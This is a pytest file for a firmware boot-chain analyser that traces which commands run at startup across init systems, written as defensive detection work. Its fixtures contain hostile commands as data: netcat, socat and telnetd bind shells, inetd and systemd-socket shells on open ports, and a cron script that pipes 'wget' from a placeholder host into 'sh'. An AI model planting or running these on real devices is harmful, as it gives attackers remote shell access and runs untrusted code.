"""firmproof.device.bootchain: which lines run at boot, and through which files."""

from __future__ import annotations

from firmproof.device.bootchain import boot_chain, unwrap
from firmproof.fs.rootfs import RootFS

ELF = b"\x7fELF\x01\x01\x01" + b"\0" * 57


def step_for(chain, name):
    found = [s for s in chain.steps if s.name == name]
    assert found, f"no step runs {name}: {[s.argv for s in chain.steps]}"
    return found[0]


def line_of(fs, step):
    return fs.read(step.path)[step.start:step.end].decode()


def test_inittab_rcs_loop_script_and_binary():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200\n",
        "/etc/init.d/rcS": "#!/bin/sh\nfor i in /etc/init.d/S??* ;do\n  [ -x $i ] && $i start\ndone\n",
        "/etc/init.d/S50telnet": "#!/bin/sh\ncase \"$1\" in\n start) telnetd -l /bin/sh ;;\n"
                                 " stop) killall telnetd ;;\nesac\n",
        "/etc/init.d/S10net": "#!/bin/sh\n/usr/sbin/netd &\n",
        "/etc/init.d/K10net": "#!/bin/sh\n/usr/sbin/evil &\n",
        "/usr/sbin/netd": ELF,
        "/bin/busybox": ELF,
    }, links={"/usr/sbin/telnetd": "/bin/busybox", "/sbin/getty": "/bin/busybox"})
    chain = boot_chain(fs)
    telnetd = step_for(chain, "telnetd")
    assert telnetd.chain == ("/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/S50telnet")
    assert telnetd.full_chain[-1] == "/usr/sbin/telnetd"
    assert telnetd.binary == "/bin/busybox"
    assert line_of(fs, telnetd) == "start) telnetd -l /bin/sh ;;"
    netd = step_for(chain, "netd")
    assert netd.background and netd.binary == "/usr/sbin/netd"
    assert "killall" not in {s.name for s in chain.steps}       # the stop branch does not run
    assert "evil" not in {s.name for s in chain.steps}          # K* scripts are not S??*
    getty = step_for(chain, "getty")
    assert line_of(fs, getty) == "::respawn:/sbin/getty -L ttyS0 115200"
    assert chain.has_init


def test_busybox_default_without_inittab_and_source_and_sh():
    fs = RootFS.from_files({
        "/etc/init.d/rcS": "#!/bin/sh\n. /etc/profile.d/env.sh\nsh /etc/rc.local start\n",
        "/etc/profile.d/env.sh": "DEBUG=1\n",
        "/etc/rc.local": "#!/bin/sh\n/bin/backdoor &\n",
        "/bin/backdoor": ELF,
        "/sbin/init": ELF,
    })
    chain = boot_chain(fs)
    backdoor = step_for(chain, "backdoor")
    assert backdoor.chain == ("/sbin/init", "/etc/init.d/rcS", "/etc/rc.local")
    assert line_of(fs, backdoor) == "/bin/backdoor &"


def test_symlinked_scripts_show_link_and_target():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n",
        "/etc/init.d/rcS": "#!/bin/sh\nfor i in /etc/rc.d/$1*; do\n\t[ -x $i ] && $i $2 2>&1\ndone\n",
        "/etc/init.d/telnet": "#!/bin/sh /etc/rc.common\nSTART=50\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\n"
                              "start_service() {\n\tprocd_open_instance\n"
                              "\tprocd_set_param command \"$PROG\" -F -l /bin/login.sh\n"
                              "\tprocd_close_instance\n}\nstop_service() {\n\ttelnetd -l /bin/sh\n}\n",
        "/etc/init.d/unused": "#!/bin/sh /etc/rc.common\nstart() {\n\tutelnetd -l /bin/sh\n}\n",
        "/etc/rc.common": "#!/bin/sh\n",
    }, links={"/etc/rc.d/S50telnet": "../init.d/telnet", "/etc/rc.d/K50telnet": "../init.d/telnet"})
    chain = boot_chain(fs)
    (telnetd,) = [s for s in chain.steps if s.name == "telnetd"]
    assert telnetd.argv == ("/usr/sbin/telnetd", "-F", "-l", "/bin/login.sh")
    assert telnetd.chain == ("/etc/inittab", "/etc/init.d/rcS", "/etc/rc.d/S50telnet", "/etc/init.d/telnet")
    assert line_of(fs, telnetd) == 'procd_set_param command "$PROG" -F -l /bin/login.sh'
    assert "utelnetd" not in {s.name for s in chain.steps}      # not enabled: no rc.d link


def test_procd_without_rcs_runs_rc_d_links():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n::askconsole:/usr/libexec/login.sh\n",
        "/etc/init.d/dropbear": "#!/bin/sh /etc/rc.common\nstart_service() {\n"
                                "\tprocd_set_param command /usr/sbin/dropbear -F -P /var/run/d.pid\n}\n",
        "/etc/rc.common": "#!/bin/sh\n",
        "/sbin/procd": ELF,
    }, links={"/etc/rc.d/S19dropbear": "../init.d/dropbear"})
    dropbear = step_for(boot_chain(fs), "dropbear")
    assert dropbear.chain == ("/etc/inittab", "/etc/rc.d/S19dropbear", "/etc/init.d/dropbear")


def test_sysv_runlevels_start_stop_daemon_and_functions():
    fs = RootFS.from_files({
        "/etc/inittab": "si::sysinit:/etc/init.d/rcS\nl2:2:wait:/etc/init.d/rc 2\n",
        "/etc/init.d/rcS": "#!/bin/sh\nexec /etc/init.d/rc S\n",
        "/etc/init.d/rc": "#!/bin/sh\nrunlevel=$1\n",
        "/etc/init.d/ssh": "#!/bin/sh\ndo_start() {\n"
                           "\tstart-stop-daemon --start --quiet --exec /usr/sbin/sshd -- $SSHD_OPTS\n}\n"
                           "case \"$1\" in\n  start)\n\tdo_start\n\t;;\n  stop)\n"
                           "\tstart-stop-daemon --stop --exec /usr/sbin/sshd\n\t;;\nesac\n",
        "/etc/init.d/mountall": "#!/bin/sh\nmount -a\n",
    }, links={"/etc/rc2.d/S02ssh": "../init.d/ssh", "/etc/rcS.d/S01mountall": "../init.d/mountall"})
    chain = boot_chain(fs)
    sshd = step_for(chain, "sshd")
    assert sshd.argv == ("/usr/sbin/sshd", "$SSHD_OPTS")
    assert sshd.chain == ("/etc/inittab", "/etc/init.d/rc", "/etc/rc2.d/S02ssh", "/etc/init.d/ssh")
    mount = step_for(chain, "mount")
    assert mount.chain[:3] == ("/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/rc")


def test_systemd_wants_socket_units_and_dropins():
    fs = RootFS.from_files({
        "/lib/systemd/systemd": ELF,
        "/lib/systemd/system/backd.service": "[Service]\nExecStart=/usr/bin/backd --port 4444\n",
        "/lib/systemd/system/shell.socket": "[Socket]\nListenStream=0.0.0.0:5555\nAccept=yes\n",
        "/lib/systemd/system/shell@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
        "/lib/systemd/system/quiet.service": "[Service]\nExecStart=/usr/bin/quiet\n",
        "/lib/systemd/system/web.service": "[Service]\nExecStart=/usr/bin/web\n",
        "/etc/systemd/system/web.service.d/override.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/web2\n",
    }, links={
        "/etc/systemd/system/multi-user.target.wants/backd.service": "/lib/systemd/system/backd.service",
        "/etc/systemd/system/sockets.target.wants/shell.socket": "/lib/systemd/system/shell.socket",
        "/etc/systemd/system/multi-user.target.wants/web.service": "/lib/systemd/system/web.service",
    })
    chain = boot_chain(fs)
    backd = step_for(chain, "backd")
    assert backd.chain == ("systemd", "/etc/systemd/system/multi-user.target.wants/backd.service",
                           "/lib/systemd/system/backd.service")
    assert line_of(fs, backd) == "ExecStart=/usr/bin/backd --port 4444"
    shell = step_for(chain, "sh")
    assert shell.port == 5555 and shell.argv == ("/bin/sh", "-i")
    assert "quiet" not in {s.name for s in chain.steps}
    assert {s.name for s in chain.steps if s.name.startswith("web")} == {"web2"}


def test_inetd_xinetd_and_cron():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": "#!/bin/sh\ninetd\ncrond -c /etc/crontabs\n",
        "/etc/inetd.conf": "telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd -L /bin/sh\n"
                           "#shell stream tcp nowait root /usr/sbin/in.rshd in.rshd\n",
        "/etc/xinetd.d/rlogin": "service login\n{\n\tdisable = no\n\tserver = /usr/sbin/in.rlogind\n}\n",
        "/etc/crontabs/root": "*/5 * * * * /usr/bin/phone-home.sh\n",
        "/usr/bin/phone-home.sh": "#!/bin/sh\nwget -q -O- http://example.invalid/x | sh\n",
        "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "/etc/cron.hourly/job": "#!/bin/sh\ntouch /tmp/x\n",
    })
    chain = boot_chain(fs)
    telnetd = step_for(chain, "in.telnetd")
    assert telnetd.argv == ("in.telnetd", "-L", "/bin/sh") and telnetd.port == 23
    assert telnetd.chain[-1] == "/etc/inetd.conf" and telnetd.chain[0] == "/etc/inittab"
    assert "in.rshd" not in {s.name for s in chain.steps}
    rlogind = step_for(chain, "in.rlogind")
    assert rlogind.via == "xinetd" and rlogind.port == 513
    assert line_of(fs, rlogind) == "server = /usr/sbin/in.rlogind"
    wget = step_for(chain, "wget")
    assert wget.chain[-2:] == ("/etc/crontabs/root", "/usr/bin/phone-home.sh")
    touch = step_for(chain, "touch")
    assert touch.chain[-2:] == ("/etc/crontab", "/etc/cron.hourly/job")


def test_sh_c_and_wrappers_are_unwrapped():
    assert unwrap(["nohup", "busybox", "telnetd", "-l", "/bin/sh"]) == (["telnetd", "-l", "/bin/sh"], None)
    assert unwrap(["env", "A=1", "nice", "-n", "5", "x"]) == (["x"], None)
    assert unwrap(["sh", "-c", "nc -l -p 1 -e /bin/sh"]) == ([], "nc -l -p 1 -e /bin/sh")
    assert unwrap(["start-stop-daemon", "-S", "-b", "-x", "/sbin/d", "--", "-f"]) == (["/sbin/d", "-f"], None)
    assert unwrap(["start-stop-daemon", "-K", "-x", "/sbin/d"])[0][0] == "start-stop-daemon"
    fs = RootFS.from_files({
        "/etc/inittab": "::respawn:/bin/sh -c 'nc -l -p 9999 -e /bin/sh'\n",
    })
    nc = step_for(boot_chain(fs), "nc")
    assert line_of(fs, nc) == "::respawn:/bin/sh -c 'nc -l -p 9999 -e /bin/sh'"


def test_a_lone_partition_treats_every_script_as_started():
    fs = RootFS.from_files({
        "/extapp.sh": "#!/bin/sh\nmount --bind /usr/share/web/ /mnt/web/\n/bin/busybox telnetd -F\n",
        "/ProductDefinition": "{}\n",
    })
    chain = boot_chain(fs)
    telnetd = step_for(chain, "telnetd")
    assert not chain.has_init and not telnetd.reached
    assert telnetd.chain == ("/extapp.sh",)
    assert line_of(fs, telnetd) == "/bin/busybox telnetd -F"


def test_loops_over_words_and_ls():
    fs = RootFS.from_files({
        "/etc/init.d/rcS": "#!/bin/sh\nfor d in telnetd utelnetd; do\n  /usr/sbin/$d -p 23\ndone\n"
                           "for s in `ls /etc/start/*.sh`; do sh $s; done\n",
        "/etc/start/a.sh": "#!/bin/sh\nsocat TCP-LISTEN:1,fork EXEC:/bin/sh\n",
        "/sbin/init": ELF,
    })
    chain = boot_chain(fs)
    assert [s.argv for s in chain.steps if "telnetd" in s.name] == [
        ("/usr/sbin/telnetd", "-p", "23"), ("/usr/sbin/utelnetd", "-p", "23")]
    assert step_for(chain, "socat").chain[-1] == "/etc/start/a.sh"


def test_systemd_masked_units_and_environment():
    fs = RootFS.from_files({
        "/lib/systemd/systemd": ELF,
        "/lib/systemd/system/diag.service": "[Service]\nExecStart=/usr/bin/diag\n",
        "/lib/systemd/system/opts.service": (
            '[Service]\nEnvironment="PORT=4444" PROG=/bin/sh\nEnvironment=PORT=5555\n'
            "EnvironmentFile=-/etc/default/opts\nEnvironmentFile=-/etc/default/missing\n"
            "ExecStart=/usr/bin/nc -l -p ${PORT} -e ${PROG} $EXTRA $UNSET $$HOME\n"),
        "/etc/default/opts": "# defaults\nexport EXTRA='-v -w 3'\nPROG=/bin/ash\n",
    }, links={
        "/etc/systemd/system/diag.service": "/dev/null",
        "/etc/systemd/system/multi-user.target.wants/diag.service": "/lib/systemd/system/diag.service",
        "/etc/systemd/system/multi-user.target.wants/opts.service": "/lib/systemd/system/opts.service",
    })
    chain = boot_chain(fs)
    assert "diag" not in {s.name for s in chain.steps}      # masked: enabled or not, never runs
    nc = step_for(chain, "nc")
    # EnvironmentFile= overrides Environment=; `$X` alone splits, `${X}` does not; unknown stays
    assert nc.argv == ("/usr/bin/nc", "-l", "-p", "5555", "-e", "/bin/ash", "-v", "-w", "3",
                       "$UNSET", "$HOME")


def test_upstart_jobs_started_on_an_event():
    fs = RootFS.from_files({
        "/sbin/initctl": ELF,
        "/etc/init/a.conf": "start on startup\nrespawn\nexec /usr/bin/alpha -x\n",
        "/etc/init/b.conf": ("start on (local-filesystems\n    and net-device-up)\n"
                             "pre-start exec /usr/bin/beta\nscript\n  P=1\n  exec /usr/bin/gamma $P\n"
                             "end script\npost-stop script\n  /usr/bin/delta\nend script\n"),
        "/etc/init/manual.conf": "exec /usr/bin/epsilon\n",
        "/etc/init/masked.conf": "start on startup\nexec /usr/bin/zeta\n",
        "/etc/init/masked.override": "manual\n",
        "/etc/init/pre-stop.conf": "start on startup\npre-stop exec /usr/bin/eta\n",
    })
    chain = boot_chain(fs)
    names = {s.name for s in chain.steps}
    assert {"alpha", "beta", "gamma"} <= names
    assert not names & {"delta", "epsilon", "zeta", "eta"}
    alpha = step_for(chain, "alpha")
    assert alpha.via == "upstart" and alpha.chain == ("/sbin/init", "/etc/init/a.conf")
    assert line_of(fs, alpha) == "exec /usr/bin/alpha -x"
    assert step_for(chain, "gamma").argv == ("/usr/bin/gamma", "1")
    assert chain.has_init


def test_android_init_services_imports_and_start():
    fs = RootFS.from_files({
        "/init.rc": "import /init.${ro.hardware}.rc\non boot\n    class_start main\n"
                    "    exec - root -- /system/bin/setup --once\n",
        "/init.qcom.rc": "import /vendor/etc/extra.rc\n",
        "/vendor/etc/extra.rc": "service one /system/bin/one -a\n    class main\n",
        "/vendor/etc/orphan.rc": "service two /system/bin/two\n",
        "/system/etc/init/x.rc": ("service three /system/bin/three\n    disabled\n"
                                  "service four /system/bin/four\n    disabled\n"
                                  "on property:sys.boot_completed=1\n    start four\n"),
        "/system/bin/one": ELF, "/system/bin/two": ELF, "/system/bin/three": ELF,
        "/system/bin/four": ELF, "/system/bin/setup": ELF,
    })
    chain = boot_chain(fs)
    names = {s.name for s in chain.steps}
    assert {"one", "four", "setup"} <= names
    assert not names & {"two", "three"}      # never imported; disabled and never started
    one = step_for(chain, "one")
    assert one.path == "/vendor/etc/extra.rc" and one.via == "android-init"
    assert line_of(fs, one) == "service one /system/bin/one -a"
    assert line_of(fs, step_for(chain, "setup")) == "exec - root -- /system/bin/setup --once"


def test_inetd_multi_call_binary_runs_the_applet_of_argv0():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/usr/sbin/inetd\n",
        "/etc/inetd.conf": "4444 stream tcp nowait root /bin/busybox sh -i\n",
        "/bin/busybox": ELF,
    }, links={"/bin/sh": "busybox", "/usr/sbin/inetd": "/bin/busybox"})
    shell = step_for(boot_chain(fs), "sh")
    assert shell.argv == ("sh", "-i") and shell.port == 4444 and shell.via == "inetd"


def test_one_walk_per_view_shared_by_every_caller(monkeypatch):
    from firmproof.device import bootchain
    from firmproof.fs import examined

    fs = RootFS.from_files({"/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
                            "/etc/init.d/rcS": "#!/bin/sh\ntelnetd -l /bin/sh\n"})
    monkeypatch.setattr(bootchain, "MAX_SCRIPT_BYTES", 8)     # rcS is too big: a skipped file
    examined.drain()
    first = boot_chain(fs)
    assert boot_chain(fs) is first is bootchain.walk(fs)
    # every caller (each in its own task) reports what the one walk did not read
    assert [s.path for s in examined.drain()] == ["/etc/init.d/rcS", "/etc/init.d/rcS"]
    assert boot_chain(RootFS.from_files({"/etc/inittab": ""})) is not first


def test_orphans_resume_the_shared_walk_of_a_tree_without_init():
    """In a tree without init, `orphans` takes only those scripts as entry points: a script
    another orphan runs is then reached on its own, as a walk limited to it would."""
    fs = RootFS.from_files({"/usr/bin/start.sh": "#!/bin/sh\n/usr/bin/up.sh\n",
                            "/usr/bin/up.sh": "#!/bin/sh\nwget http://example.com/x\n",
                            "/etc/crontabs/root": "* * * * * /usr/bin/tick\n"})
    full = boot_chain(fs)
    assert not full.has_init
    assert step_for(full, "wget").chain == ("/usr/bin/start.sh", "/usr/bin/up.sh")
    only = boot_chain(fs, orphans=frozenset({"/usr/bin/up.sh"}))
    assert step_for(only, "wget").chain == ("/usr/bin/up.sh",)
    assert [s.name for s in only.steps] == ["tick", "wget"]    # cron's step kept, start.sh not walked
    assert boot_chain(fs) is full and len(full.steps) == 3     # the shared walk is left as it was
